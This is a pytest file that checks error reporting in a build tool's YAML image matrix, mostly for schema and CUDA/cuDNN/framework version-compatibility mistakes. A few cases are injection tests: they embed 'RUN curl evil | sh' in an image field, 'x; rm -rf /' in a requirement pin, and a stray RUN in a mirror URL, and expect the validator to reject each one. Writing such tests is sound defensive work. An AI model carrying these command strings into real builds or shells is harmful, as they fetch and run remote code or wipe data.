"""Malformed and impossible matrices: every problem is reported as `file:line: path: message`."""

from __future__ import annotations

import pytest

from builder.errors import MatrixError
from builder.matrix import expand, load_matrix

from .conftest import SMALL


def problems(write_matrix, text: str) -> list[str]:
    path = write_matrix(text)
    with pytest.raises(MatrixError) as info:
        expand(load_matrix(path))
    return [p.replace(str(path), "m.yaml") for p in info.value.lines()]


def edit(old: str, new: str, count: int = 1) -> str:
    assert SMALL.count(old) >= count, old
    return SMALL.replace(old, new, count)


CASES = [
    # (id, text, expected line prefix and message fragment)
    ("yaml-syntax", edit("repository: example/ml", "repository: [unclosed"),
     "m.yaml:3: YAML syntax error"),
    ("duplicate-key", edit("  debian11:\n", "  debian12:\n"),
     "m.yaml:10: bases.debian12: duplicate key (first defined at line 6)"),
    ("digest-pinned-bootstrap", edit("    image: debian:bookworm-slim\n",
                                     "    image: debian:bookworm-slim@sha256:" + "a" * 64 + "\n"),
     "m.yaml:6: bases.debian12: a digest-pinned image cannot be bootstrapped"),
    ("unknown-key", edit("    python: \"3.9\"\n  cuda-devel", "    pyhton: \"3.9\"\n  cuda-devel"),
     "m.yaml:12: bases.debian11.pyhton: unknown key"),
    ("unquoted-3.10-float", edit('python: "3.10"\ncuda:', "python: 3.10\ncuda:"),
     'm.yaml:15: bases.cuda-devel.python: YAML reads the unquoted 3.10 as the number 3.1; write it quoted: "3.10"'),
    ("unquoted-int", edit('    python: "3.9"\n  cuda-devel', "    python: 3\n  cuda-devel"),
     'm.yaml:12: bases.debian11.python: must be a string: write it quoted: "3"'),
    ("unquoted-key-float", edit('  "12.5":\n    cudnn: "9.3"', '  12.50:\n    cudnn: "9.3"'),
     'm.yaml:21: cuda."12.50": YAML reads the unquoted 12.50 as the number 12.5; write it quoted: "12.50"'),
    ("wrong-type-list", edit("    bases: [debian12]\n", "    bases: debian12\n"),
     "m.yaml:60: images[2].bases: Input should be a valid list"),
    ("missing-key", edit("    package: torch\n", ""),
     "m.yaml:26: frameworks.torch.package: required key is missing"),
    ("injection-image", edit("image: debian:bookworm-slim", 'image: "debian:bookworm\\nRUN curl evil | sh"'),
     "m.yaml:7: bases.debian12.image: 'debian:bookworm\\nRUN curl evil | sh' is not an image reference"),
    ("injection-requirement", edit('"12.5": {cudnn: "9.3.0.75"}', '"12.5": {cudnn: "9.3.0.75", pins: ["x; rm -rf /"]}'),
     "m.yaml:47: frameworks.tensorflow.versions.\"2.18.0\".builds.\"12.5\".pins[0]: 'x; rm -rf /' is not an exact pin"),
    ("bad-version", edit('"2.1.2":\n', '"2.1.2rc1":\n'),
     'm.yaml:29: frameworks.torch.versions."2.1.2rc1": \'2.1.2rc1\' is not a quoted version'),
    ("bad-url", edit("mirror: http://deb.debian.org/debian", "mirror: 'http://deb.debian.org/debian RUN x'"),
     "m.yaml:9: bases.debian12.bootstrap.mirror: 'http://deb.debian.org/debian RUN x' is not an http(s) URL"),
    ("bad-flavor", edit("flavor: [devel]", "flavor: [debug]"),
     "m.yaml:58: images[1].axes.flavor[0]: Input should be 'runtime' or 'devel'"),
    ("bad-schema", edit("schema: 1", "schema: 2"), "m.yaml:1: schema: Input should be 1"),
    ("image-and-nvidia", edit("    nvidia_cuda: {flavor: devel", "    image: x:y\n    nvidia_cuda: {flavor: devel"),
     "m.yaml:13: bases.cuda-devel: give exactly one of 'image' or 'nvidia_cuda'"),
    ("undefined-base", edit("bases: [debian11, debian12, cuda-devel]", "bases: [debian11, debain12, cuda-devel]"),
     "m.yaml:50: images[0].bases[1]: undefined base 'debain12'"),
    ("undefined-cuda-line", edit('"12.5": {cudnn: "9.3.0.75"}', '"12.6": {cudnn: "9.3.0.75"}'),
     'm.yaml:47: frameworks.tensorflow.versions."2.18.0".builds."12.6": undefined CUDA release \'12.6\''),
    ("undefined-index", edit("cpu: {index: pytorch-cpu}", "cpu: {index: pytorch-cu999}"),
     "m.yaml:38: frameworks.torch.versions.\"2.4.1\".builds.cpu.index: undefined index 'pytorch-cu999'"),
    ("undefined-version", edit('version: ["2.4.1"]', 'version: ["2.4.2"]'),
     "m.yaml:56: images[1].axes.version: undefined torch version '2.4.2'"),
    ("include-incomplete", edit('- {version: "2.18.0", cuda: "12.5", python: "3.11"}', '- {version: "2.18.0", cuda: "12.5"}'),
     "m.yaml:62: images[2].include[0]: an include must name python"),
    ("cudnn8-on-cuda13",
     edit('"12.1": {cudnn: "8.9.2.26"}', '"12.1": {cudnn: "8.9.2.26"}\n          "13.0": {cudnn: "8.9.7.29"}').replace(
         "frameworks:\n", '  "13.0":\n    cudnn: "9.13"\n    driver: {ga: "580.65.06", floor: "580"}\n'
         '    image: {tag: "13.0.1", cudnn: cudnn, os: [ubuntu22.04]}\nframeworks:\n'),
     'm.yaml:37: frameworks.torch.versions."2.1.2".builds."13.0".cudnn: rule cudnn-cuda: cuDNN 8 has no build for '
     "CUDA 13 (cuDNN support matrix)"),
    ("nvidia-tag-mismatch", edit('tag: "12.1.1"', 'tag: "12.2.0"'),
     "m.yaml:20: cuda.\"12.1\".image.tag: nvidia/cuda tag 12.2.0 is not a CUDA 12.1 release"),
    ("cudnn-token-mismatch", edit("tag: \"12.1.1\", cudnn: cudnn8", "tag: \"12.1.1\", cudnn: cudnn9"),
     "m.yaml:20: cuda.\"12.1\".image.cudnn: tag piece 'cudnn9' means cuDNN 9, but this release says cuDNN 8.9"),
    ("driver-floor-above-ga", edit('floor: "525"}\n    image: {tag: "12.1.1"', 'floor: "600"}\n    image: {tag: "12.1.1"'),
     "m.yaml:19: cuda.\"12.1\".driver.floor: floor 600 is above the GA driver 530.30.02"),
    ("cpu-with-cudnn", edit("cpu: {index: pytorch-cpu}", 'cpu: {index: pytorch-cpu, cudnn: "9.1.0"}'),
     "m.yaml:38: frameworks.torch.versions.\"2.4.1\".builds.cpu.cudnn: a cpu build has no cuDNN"),
    ("explicit-torch212-py312", edit('- {version: "2.18.0", cuda: "12.5", python: "3.11"}',
                                     '- {version: "2.18.0", cuda: "12.5", python: "3.11"}\n  - framework: torch\n'
                                     '    bases: [debian12]\n    include:\n      - {version: "2.1.2", cuda: "12.1", python: "3.12"}'),
     "m.yaml:66: images[3].include[0]: impossible combination torch==2.1.2 cuda12.1 py3.12 runtime: torch 2.1.2 "
     "publishes no cp312 wheel (wheels exist for Python 3.9, 3.10, 3.11) [rule python-wheels; fact at m.yaml:30]"),
    ("explicit-tf-wrong-cuda", edit('- {version: "2.18.0", cuda: "12.5", python: "3.11"}',
                                    '- {version: "2.18.0", cuda: "12.1", python: "3.11"}'),
     "m.yaml:62: images[2].include[0]: impossible combination tensorflow==2.18.0 cuda12.1 py3.11 runtime: "
     "tensorflow 2.18.0 has no build for CUDA 12.1 (built for: 12.5) [rule cuda-line; fact at m.yaml:46]"),
    ("explicit-python-no-base", edit('- {version: "2.18.0", cuda: "12.5", python: "3.11"}',
                                     '- {version: "2.18.0", cuda: "12.5", python: "3.12"}'),
     "m.yaml:62: images[2].include[0]: impossible combination tensorflow==2.18.0 cuda12.5 py3.12 runtime: no base "
     "fits: debian12 ships Python 3.11 and no python_sources entry adds 3.12 [rule base; fact at m.yaml:8]"),
    ("group-yields-nothing", edit("      python: [\"3.9\", \"3.11\", \"3.12\"]\n", "      python: [\"3.13\"]\n"),
     "m.yaml:51: images[0].axes: impossible combination torch==2.1.2 cuda12.1 py3.13 runtime"),
    ("empty-file", "", "m.yaml:1: the matrix is empty"),
    ("recursive-alias", SMALL + "loop: &a [*a]\n", "nested too deep (a recursive YAML alias?)"),
    ("null-section", edit('  "12.5":\n    cudnn: "9.3"\n    driver: {ga: "555.42.02", floor: "525"}\n'
                          '    image: {tag: "12.5.1", cudnn: cudnn, os: [ubuntu22.04]}\n', '  "12.5":\n'),
     'm.yaml:21: cuda."12.5": Input should be a valid dictionary'),
    ("not-a-mapping", "- a\n- b\n", "m.yaml:1: the matrix must be a mapping"),
    ("installer-not-uv", edit("repository: example/ml\n", "repository: example/ml\ninstaller: \"poetry==2.0.0\"\n"),
     "m.yaml:3: installer: the installer must be uv, pinned exactly (uv==0.13.8), or left out for pip"),
    ("installer-unpinned", edit("repository: example/ml\n", "repository: example/ml\ninstaller: \"uv>=0.13\"\n"),
     "m.yaml:3: installer: 'uv>=0.13' is not an exact pin such as nvidia-cudnn-cu12==9.3.0.75"),
]


@pytest.mark.parametrize(("text", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_reports_exact_line_and_message(write_matrix, text, expected):
    found = problems(write_matrix, text)
    assert any(p.startswith(expected) or (expected in p and not expected.startswith("m.yaml")) for p in found), found


def test_every_problem_is_reported_at_once(write_matrix):
    text = edit("image: debian:bullseye-slim", "image: 'Debian:Bullseye'")
    text = text.replace('python: "3.10"\ncuda:', "python: 3.10\ncuda:").replace("flavor: [devel]", "flavor: [dbg]")
    found = problems(write_matrix, text)
    assert [p.split(":")[1] for p in found] == ["11", "15", "58"], found


def test_problems_are_single_lines(write_matrix):
    for _, text, _ in CASES:
        path = write_matrix(text)
        try:
            expand(load_matrix(path))
        except MatrixError as exc:
            assert all("\n" not in line for line in exc.lines())


def test_missing_file_is_one_line(tmp_path):
    with pytest.raises(MatrixError) as info:
        load_matrix(tmp_path / "nope.yaml")
    assert info.value.lines() == [f"{tmp_path / 'nope.yaml'}: cannot read the matrix: No such file or directory"]
